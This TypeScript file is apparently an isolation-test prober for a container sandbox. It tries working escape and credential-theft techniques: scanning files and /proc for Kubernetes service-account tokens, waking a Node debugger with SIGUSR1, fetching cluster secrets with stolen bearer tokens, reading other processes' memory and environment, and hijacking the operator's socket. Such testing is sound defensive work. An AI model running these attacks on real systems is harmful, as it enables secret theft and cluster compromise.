import { once } from 'node:events';
import {
  openSync,
  readdirSync,
  readFileSync,
  renameSync,
  statSync,
  unlinkSync,
  writeFileSync,
} from 'node:fs';
import { request } from 'node:https';
import { connect, createServer } from 'node:net';
import type { Socket } from 'node:net';
import { join } from 'node:path';

/*
 * What code in the container of the prober tries. It is run as JavaScript in a probe process, which is sealed, and as
 * a program of its own under the same user, which is as good as native code. It must import nothing of ours.
 */

/** What was reached, each in a word or two. */
export interface Reached {
  readonly tokens: readonly string[];
  /** The process of the operator, its files, its debugger. */
  readonly operator: readonly string[];
  /** Secrets at the API server, under whatever name. */
  readonly apiServer: readonly string[];
  /** Other processes of this container. */
  readonly siblings: readonly string[];
  /** The socket of the operator, which could be removed, or taken by a second prober. */
  readonly socket: readonly string[];
  readonly tried: number;
}

/** What the attacker was told, and what it got hold of. */
export interface Loot {
  /** HOST:PORT of the API server. */
  readonly apiServer: string;
  /** Ways to a TCP port, each of which may fail. */
  readonly dials: readonly ((host: string, port: number) => Promise<unknown>)[];
}

const SOCKET = '/run/mooring/prober.sock';
const ACCOUNT = 'var/run/secrets/kubernetes.io/serviceaccount/token';
const TOKEN = /eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{8,}/;
const INSPECTOR = 9229;
const LARGEST = 64 * 1024;
const PATIENCE_MS = 2000;

/** Tries everything. */
export async function attack({ apiServer, dials }: Loot): Promise<Reached> {
  const tokens = new Attempts();
  await tokens.each([`/${ACCOUNT}`, '/run/secrets/kubernetes.io/serviceaccount/token'], 'file', holdsToken);
  await tokens.each(filesBelow('/'), 'file', holdsToken);
  for (const pid of pids()) {
    await tokens.each([`/proc/${pid}/root/${ACCOUNT}`, `/proc/${pid}/environ`], 'file', holdsToken);
  }
  const others = pids().filter((pid) => pid !== process.pid);
  const operator = new Attempts();
  await operator.each(others, 'process', (pid) => commandOf(pid).includes('main.js'));
  await operator.each([1], 'debugger of', signal);
  for (const dial of dials) await operator.each([INSPECTOR], 'debugger', (port) => dial('127.0.0.1', port));
  const server = new Attempts();
  await server.each(['none', ...tokens.reached], 'secrets by', (token) => secretsOf(apiServer, token));
  const siblings = new Attempts();
  await siblings.each(others, 'memory', (pid) => openSync(`/proc/${pid}/mem`, 'r') > 0);
  await siblings.each(others, 'environment', (pid) => readFileSync(`/proc/${pid}/environ`) !== undefined);
  await siblings.each(others, 'signal', (pid) => process.kill(pid, 0));
  const socket = await attackSocket();
  const all = { tokens, operator, apiServer: server, siblings, socket };
  return {
    ...reachedBy(all),
    tried: Object.values(all).reduce((sum, { tried }) => sum + tried, 0),
  };
}

type Kinds = Readonly<Record<Exclude<keyof Reached, 'tried'>, Attempts>>;

function reachedBy({ tokens, operator, apiServer, siblings, socket }: Kinds) {
  return {
    tokens: tokens.reached,
    operator: operator.reached,
    apiServer: apiServer.reached,
    siblings: siblings.reached,
    socket: socket.reached,
  };
}

/** Attempts of one kind: what throws or comes to nothing has reached nothing. */
class Attempts {
  readonly reached: string[] = [];
  tried = 0;

  async each<T>(targets: readonly T[], what: string, reaches: (target: T) => unknown): Promise<void> {
    for (const target of targets) {
      this.tried += 1;
      try {
        if ((await reaches(target)) !== false) this.reached.push(`${what} ${String(target)}`);
      } catch {
        // It is held.
      }
    }
  }
}

async function attackSocket(): Promise<Attempts> {
  const attempts = new Attempts();
  await attempts.each([SOCKET], 'second prober at', hearsOperator);
  await attempts.each([SOCKET], 'moved', (path) => renameSync(path, `${path}.gone`));
  await attempts.each([SOCKET], 'removed', (path) => unlinkSync(path));
  await attempts.each([`${SOCKET}.other`], 'written', (path) => writeFileSync(path, ''));
  await attempts.each([`${SOCKET}.other`], 'listened at', async (path) => {
    await once(createServer().listen(path), 'listening');
  });
  return attempts;
}

/** Numbers of processes, or of those that there may be where none can be seen. */
function pids(): readonly number[] {
  try {
    return readdirSync('/proc').map(Number).filter(Number.isInteger);
  } catch {
    return Array.from({ length: 64 }, (_, index) => index + 1);
  }
}

function filesBelow(folder: string): readonly string[] {
  try {
    return readdirSync(folder, { withFileTypes: true }).flatMap((entry) => {
      const path = join(folder, entry.name);
      if (entry.isDirectory()) return ['/proc', '/sys'].includes(path) ? [] : filesBelow(path);
      return entry.isFile() && statSync(path).size <= LARGEST ? [path] : [];
    });
  } catch {
    return [];
  }
}

function commandOf(pid: number): string {
  return readFileSync(`/proc/${pid}/cmdline`, 'utf8');
}

function holdsToken(path: string): boolean {
  return TOKEN.test(readFileSync(path, 'latin1'));
}

/** Where Node.js listens to it, a debugger is opened; it says nothing of that. */
async function signal(pid: number): Promise<boolean> {
  process.kill(pid, 'SIGUSR1');
  return within(once(connect(INSPECTOR, '127.0.0.1'), 'connect'));
}

async function secretsOf(apiServer: string, found: string): Promise<boolean> {
  const [bearer = ''] = found.startsWith('file ')
    ? (TOKEN.exec(readFileSync(found.slice(5), 'latin1')) ?? [])
    : [];
  const path = '/api/v1/namespaces/mooring-system/secrets';
  const asked = request(`https://${apiServer}${path}`, {
    rejectUnauthorized: false,
    headers: bearer === '' ? {} : { authorization: `Bearer ${bearer}` },
  });
  asked.end();
  const [answer] = (await once(asked, 'response')) as [{ readonly statusCode?: number }]; // of node:http
  return answer.statusCode === 200;
}

/** A prober that is accepted is told at once what it may do. */
async function hearsOperator(path: string): Promise<boolean> {
  const socket: Socket = connect(path);
  const heard = once(socket, 'data');
  const closed = once(socket, 'close').then(() => Promise.reject(new Error('closed')));
  return within(Promise.race([heard, closed]));
}

async function within(event: Promise<unknown>): Promise<boolean> {
  const late = new Promise((_, reject) => {
    setTimeout(() => reject(new Error('too late')), PATIENCE_MS).unref();
  });
  await Promise.race([event, late]);
  return true;
}
